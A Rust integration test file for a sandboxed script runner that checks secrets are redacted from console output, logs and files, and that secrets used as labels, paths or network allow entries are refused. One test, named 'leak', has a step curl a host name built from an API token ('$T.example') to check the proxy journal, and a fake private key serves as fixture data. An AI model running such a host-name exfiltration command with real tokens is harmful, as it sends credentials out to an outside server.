//! Secrets that used to escape redaction (issue #20, class 5): a
//! multi-line secret printed line by line, and a secret used as a sandbox
//! label. Each on every provider.

mod common;
use common::*;

/// A key-shaped secret: PEM armour around base64 lines.
const KEY_LINES: &[&str] = &[
    "-----BEGIN OPENSSH PRIVATE KEY-----",
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
    "QyNTUxOQAAACBq7x0b0S0m3K9c2Vj0a1u5R8h0zZl7xvQy5rXo1b7nUQAAAJgAAAAAAAAA",
    "-----END OPENSSH PRIVATE KEY-----",
];

fn assert_nowhere(out: &RunOut, needle: &str) {
    assert!(
        !out.stdout.contains(needle),
        "{needle} on stdout:\n{}",
        out.stdout
    );
    assert!(
        !out.stderr.contains(needle),
        "{needle} on stderr:\n{}",
        out.stderr
    );
    for f in files_under(&out.out_dir) {
        let text = String::from_utf8_lossy(&std::fs::read(&f).unwrap()).into_owned();
        assert!(
            !text.contains(needle),
            "{needle} leaked into {}",
            f.display()
        );
    }
}

provider_tests! {
    fn a_multi_line_secret_is_redacted_line_by_line_in_console_and_logs(rfs: &Rfs) {
        let repo = Repo::new();
        let key = format!("{}\n", KEY_LINES.join("\n"));
        let out = rfs.run_with(
            repo.path(),
            r#"let k = arg("DEPLOY_KEY");
            let r = step("cat-key", "printf '%s' \"$K\"; printf '%s' \"$K\" >&2", #{ env: #{ K: k } });
            print(r.stdout);"#,
            &["--var", &format!("DEPLOY_KEY={key}")],
        );
        out.assert_code(0);
        for line in &KEY_LINES[1..3] {
            assert_nowhere(&out, line);
        }
        assert!(out.stdout.contains("[REDACTED]"), "{}", out.stdout);
        rfs.assert_no_leftovers();
    }

    #[not_under_gvisor = "refused before any sandbox exists: nothing of it runs under gVisor"]
    fn a_secret_as_a_label_value_is_refused_and_never_reaches_the_provider(rfs: &Rfs) {
        let repo = Repo::new();
        let secret = "s3cr3t-label-value-9f8e7d";
        let out = rfs.run_with(
            repo.path(),
            r#"sandbox(#{ labels: #{ owner: arg("API_TOKEN") } });
            step("never", "echo ran");"#,
            &["--var", &format!("API_TOKEN={secret}")],
        );
        out.assert_code(3);
        assert!(out.stderr.contains("would publish a secret"), "{}", out.stderr);
        assert!(!out.stdout.contains("ran"), "{}", out.stdout);
        assert_nowhere(&out, secret);
        assert!(out.entries("placement").is_empty(), "no sandbox was created");
        rfs.assert_no_leftovers();
    }
}

/// A script that built an identifier from a secret — an allow entry, a
/// checkpoint name, a cache path, a `sync_source` dest, a `put`
/// destination — had the value journaled and shown (placement, every
/// `net.connect` rule, EVIDENCE.md, report.html, the console, a bundle
/// file named after it). Each is refused before anything runs, and the
/// value is nowhere.
#[test]
fn a_secret_in_an_identifier_a_script_builds_is_refused_and_published_nowhere() {
    let rfs = Rfs::new(Prov::Local);
    let repo = Repo::new();
    let secret = "Tok3nValue9f8e7d";
    for (what, script) in [
        (
            "an allow entry",
            r#"sandbox(#{ network: #{ allow: [arg("API_TOKEN") + ".example"] } }); step("never", "echo ran");"#,
        ),
        (
            "a checkpoint name",
            r#"step("a", "true"); checkpoint(arg("API_TOKEN")); step("never", "echo ran");"#,
        ),
        (
            "a cache's path",
            r#"sandbox(#{ caches: #{ pip: "~/.cache/" + arg("API_TOKEN") } }); step("never", "echo ran");"#,
        ),
        (
            "sync_source()'s dest",
            r#"sync_source(#{ dest: "src-" + arg("API_TOKEN") }); step("never", "echo ran");"#,
        ),
        (
            "put()'s destination",
            r#"put("reproducer-marker.txt", arg("API_TOKEN")); step("never", "echo ran");"#,
        ),
    ] {
        let out = rfs.run_with(
            repo.path(),
            script,
            &["--var", &format!("API_TOKEN={secret}")],
        );
        assert_eq!(out.code, 3, "{what}: {}", out.stderr);
        assert!(
            out.stderr.contains(&format!("{what} holds a secret")),
            "{what}: {}",
            out.stderr
        );
        assert!(!out.stdout.contains("ran"), "{what}");
        assert_nowhere(&out, secret);
        assert_nowhere(&out, &secret.to_ascii_lowercase());
    }
    rfs.assert_no_leftovers();
}

/// The proxy lower-cases host names before they are recorded, so a step
/// connecting to `$TOKEN.example` had the secret journaled in lower case,
/// past the redaction. Names are redacted without regard to case.
#[test]
fn a_secret_in_a_host_name_a_step_connects_to_is_redacted_in_any_case() {
    let rfs = Rfs::new(Prov::Local);
    let repo = Repo::new();
    let secret = "Tok3nValue9f8e7d";
    let out = rfs.run_with(
        repo.path(),
        r#"let t = arg("API_TOKEN");
        step("leak", "curl -sS -m 5 -o /dev/null http://$T.example/ || true", #{ env: #{ T: t } });"#,
        &["--var", &format!("API_TOKEN={secret}")],
    );
    out.assert_code(0);
    let conns = out.entries("net.connect");
    assert!(!conns.is_empty(), "the attempt is recorded");
    assert_nowhere(&out, secret);
    assert_nowhere(&out, &secret.to_ascii_lowercase());
    rfs.assert_no_leftovers();
}
